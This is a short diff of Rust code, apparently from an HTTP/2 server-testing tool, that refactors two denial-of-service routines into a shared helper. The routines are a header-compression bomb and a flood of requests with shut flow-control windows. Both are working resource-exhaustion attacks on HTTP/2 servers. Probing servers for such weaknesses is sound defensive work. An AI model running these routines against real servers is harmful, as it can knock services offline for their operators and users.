@@ -102,30 +102,24 @@ pub(crate) async fn unread_answers(target: &Target, count: usize) -> Result<Outc
 /// Header blocks of 16 KiB that stand for 64 MiB each: one long header, and references to it. Nothing that is answered is
 /// taken, and the connection stays.
 pub(crate) async fn header_bomb(target: &Target, blocks: usize) -> Result<(Wire, Outcome)> {
-    let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
     let header = remembered("x-long", &"x".repeat(4000));
     let start = [request("GET", target.path, &[]), header].concat();
     let block = [&start[..], &vec![THE_LAST; LARGEST - start.len()]].concat();
-    let mut sent = 0;
-    for _ in 0..blocks {
-        let stream = wire.stream();
-        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await {
-            break;
-        }
-        sent += 1;
-    }
-    let ended = wire.has_ended();
-    Ok((wire, Outcome { sent, ended }))
+    requests_in_vain(target, blocks, &block).await
 }
 
 /// Requests whose answers are not taken: windows are shut, and stay so.
 pub(crate) async fn shut_windows(target: &Target, streams: usize) -> Result<(Wire, Outcome)> {
+    requests_in_vain(target, streams, &request("GET", target.path, &[])).await
+}
+
+/// The same request again and again, with windows in which no answer fits.
+async fn requests_in_vain(target: &Target, count: usize, block: &[u8]) -> Result<(Wire, Outcome)> {
     let mut wire = target.http2(Some((INITIAL_WINDOW_SIZE, 0))).await?;
-    let block = request("GET", target.path, &[]);
     let mut sent = 0;
-    for _ in 0..streams {
+    for _ in 0..count {
         let stream = wire.stream();
-        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await {
+        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, block)).await {
             break;
         }
         sent += 1;
